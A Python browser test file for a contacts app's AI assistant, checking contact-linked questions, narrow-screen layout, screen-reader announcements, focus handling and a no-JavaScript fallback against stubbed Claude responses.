def test_a_contacts_page_opens_the_assistant_about_them(claude, assistant, alice):
    helene = helene_of(alice)
    page = assistant.page
    page.goto(helene.get_absolute_url())
    page.get_by_role("link", name="Ask a question about Hélène Martin").click()
    page.wait_for_url(f"**/assistant?contact={helene.pk}")
    assert assistant.question.get_attribute("placeholder") == "Ask something about Hélène Martin"
    assert assistant.question.evaluate("field => field === document.activeElement")
    claude.streams("She is well.")
    assistant.ask_and_read("How is she?")
    assert f"the person c{helene.pk}" in claude.requests[0].json["messages"][-1]["content"]
    assert Conversation.objects.get().contact_id == helene.pk
    page.reload()
    page.locator(".assistant-main").get_by_role("link", name="Hélène Martin").wait_for()


# --- For everybody ----------------------------------------------------------------------------


@NARROW
def test_on_a_narrow_screen_nothing_is_wider_than_it(claude, assistant, alice):
    helene = helene_of(alice)
    claude.streams("", tools=[("read_contact", {"person": f"c{helene.pk}"})])
    _proposing(claude, helene)
    claude._queue.pop()
    claude.streams(
        f"A{'a' * 200} [c{helene.pk}]\n\n`{'b' * 200}`\n\n```\n{'c' * 200}\n```\n\n"
        "| one | two | three | four | five | six |\n|---|---|---|---|---|---|\n"
        "| something | something | something | something | something | something |"
    )
    assistant.ask_and_read("W" * 100)
    assistant.cards.first.wait_for()
    assistant.page.reload()
    assistant.cards.first.wait_for()
    wide = assistant.page.evaluate(
        """() => [document.documentElement.scrollWidth, ...[...document.querySelectorAll("main *")]
          .filter((each) => each.getBoundingClientRect().right > 361 && !each.closest("pre, table, .visually-hidden"))
          .map((each) => each.outerHTML.slice(0, 80))]"""
    )
    assert wide == [360]


@NARROW
def test_a_wide_table_is_moved_sideways_and_breaks_no_word(claude, assistant):
    claude.streams(
        "| Name | Town | Organisation | Last contact | Next appointment |\n|---|---|---|---|---|\n"
        "| Hélène | Marseille | Glassworks | November | December |"
    )
    assistant.ask_and_read()
    lines = assistant.answer.locator("td", has_text="Marseille").evaluate(
        "cell => { const text = document.createRange(); text.selectNodeContents(cell);"
        " return text.getClientRects().length; }"
    )
    assert lines == 1
    assert assistant.page.evaluate("document.documentElement.scrollWidth") == 360


def test_a_screen_reader_is_told_once_that_the_answer_is_there(claude, assistant):
    claude.streams("She is well. " * 20, pieces=20)
    assert assistant.status.get_attribute("role") == "status"
    assistant.keep_journal("#assistant-status")
    assistant.ask_and_read()
    assert [entry["text"] for entry in assistant.journal()] == ["The answer is there."]
    live = assistant.page.locator("#conversation[aria-live], #conversation [aria-live], #conversation [role=status]")
    assert live.count() == 0
    assert assistant.question.evaluate("field => field === document.activeElement")


def test_a_screen_reader_is_told_of_a_fault_and_not_that_there_is_an_answer(claude, assistant):
    claude.streams("She is", pieces=1, ends="error")
    assistant.keep_journal("#assistant-status")
    assistant.ask_and_read()
    assert assistant.last.get_by_role("alert").is_visible()
    assert assistant.journal() == []


def test_who_went_elsewhere_while_an_answer_comes_stays_there(claude, assistant):
    claude.streams("She is well.", pieces=1, ends="held")
    assistant.ask()
    assistant.answer.get_by_text("She is well.").wait_for()
    search = assistant.page.get_by_label("Search the conversations")
    search.focus()
    claude.release()
    assistant.finished()
    assert search.evaluate("field => field === document.activeElement")


def test_a_screen_reader_is_told_of_each_answer(claude, assistant):
    """The same words again are no change, and nothing is read out for them: they must go in between."""
    claude.streams("She is well.")
    assistant.ask_and_read()
    assistant.page.evaluate(COUNT_CHANGES, "#assistant-status")
    assistant.ask_and_read("And her husband?")
    assert assistant.status.inner_text() == "The answer is there."
    assert assistant.page.evaluate("() => window.changes") >= 1


@WITHOUT_SCRIPTS
def test_without_scripts_a_question_gets_its_answer(claude, assistant, alice):
    helene = helene_of(alice)
    _proposing(claude, helene)
    assistant.question.fill("I promised her the photos")
    assistant.send.click()
    assistant.page.get_by_text("I propose to note it.").wait_for()
    assistant.cards.first.locator("[name=title]").fill("Send all photos")
    assistant.cards.first.get_by_role("button", name="Confirm").click()
    assistant.cards.first.get_by_text("confirmed").wait_for()
    assert FollowUp.objects.filter(title="Send all photos", contact=helene).exists()
    assistant.cards.first.get_by_role("button", name="Undo").click()
    assistant.cards.first.get_by_text("undone").wait_for()
    claude.streams("Yes.")
    assistant.question.fill("Are you sure?")
    assistant.send.click()
    assistant.page.get_by_text("Yes.").wait_for()
    assert Conversation.objects.count() == 1


@WITHOUT_SCRIPTS
def test_without_scripts_and_without_a_key_the_question_stays(without_key, alice):
    helene_of(alice)
    without_key.question.fill("What did Martin tell me?")
    without_key.send.click()
    without_key.page.get_by_text("There is no API key for Claude yet").wait_for()
    assert without_key.question.input_value() == "What did Martin tell me?"
    without_key.page.locator("#ask-problem").get_by_role("link", name="Hélène Martin").wait_for()
